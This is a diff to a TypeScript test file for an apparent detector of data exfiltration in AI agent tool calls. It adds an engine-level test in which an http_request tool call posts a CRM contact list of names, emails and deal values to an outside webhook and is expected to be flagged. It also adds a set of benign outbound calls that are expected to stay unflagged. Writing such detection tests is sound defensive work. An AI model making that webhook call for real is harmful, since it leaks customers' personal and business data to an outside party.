@@ -7,7 +7,9 @@
 import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import type { AlertCategory } from '@mcpspy/events';
+import { MemoryStore, silentLogger } from '@mcpspy/runtime';
 import { combineFindings } from './verdict';
+import { SecurityEngine } from './engine';
 import { toolCall, toolResult, textUnit } from './test-builders';
 import type { Finding, TextUnit } from './types';
 
@@ -69,5 +71,37 @@ describe('tp26: an outward call that sends flagged text to a destination is exfi
     // A tool result is data read, not a call sending it.
     const unit = textUnit('salaries of the team', 'result.content[0].text', 'result');
     assert.ok(!combineFindings([flagged('data_leak', 'result.content[0].text')], toolResult('salaries of the team'), 'tools/call', 0.5, undefined, [unit]).some((a) => a.category === 'exfiltration'));
+  });
+});
+
+describe('tp26: the same through the engine (offline detectors on this thread)', () => {
+  async function engineCategories(args: Record<string, unknown>, tool: string): Promise<string[]> {
+    const store = new MemoryStore();
+    const engine = new SecurityEngine({ store, logger: silentLogger(), threshold: 0.5, offlineWorker: false });
+    await engine.init();
+    try {
+      return (await engine.analyze(toolCall(args, tool))).map((a) => a.category);
+    } finally {
+      await engine.close();
+      await store.close();
+    }
+  }
+  test('a CRM contact list posted to an outside webhook is exfiltration', async () => {
+    const body = JSON.stringify({ source: 'crm', contacts: [
+      { name: 'Irene Valdés', email: 'irene.valdes@lumbre-textil.example', deal: '$41,000' },
+      { name: 'Joost de Wit', email: 'j.dewit@polder-logistiek.example', deal: '$18,500' },
+      { name: 'Amaka Eze', email: 'amaka@savanna-foods.example', deal: '$72,250' },
+    ] });
+    assert.ok((await engineCategories({ method: 'POST', url: 'https://hooks.relay-sync.example/catch/5521/crm', body }, 'http_request')).includes('exfiltration'));
+  });
+  test('honest outbound calls stay quiet', async () => {
+    const HONEST: [string, Record<string, unknown>][] = [
+      ['send_email', { to: 'marta.l@ourteam.example', subject: 'Standup moved', body: 'Hi Marta, tomorrow\'s standup moves to 10:30 because of the fire drill. Same room.' }],
+      ['slack_post_message', { channel: '#release', text: 'v2.14.0 is tagged and the changelog is up. Rollout starts at 14:00 UTC.' }],
+      ['calendar_create_event', { title: 'Design review', attendees: ['noor@ourteam.example', 'ben@ourteam.example'], description: 'Walk through the new onboarding screens.' }],
+      ['http_request', { method: 'POST', url: 'https://api.status-board.example/v1/incidents', body: '{"title":"Elevated latency","status":"investigating"}' }],
+      ['create_gist', { public: true, files: { 'retry.py': 'for attempt in range(3):\n    try:\n        return fetch()\n    except Timeout:\n        sleep(2 ** attempt)' } }],
+    ];
+    for (const [tool, args] of HONEST) assert.deepEqual(await engineCategories(args, tool), [], `${tool} ${JSON.stringify(args)}`);
   });
 });
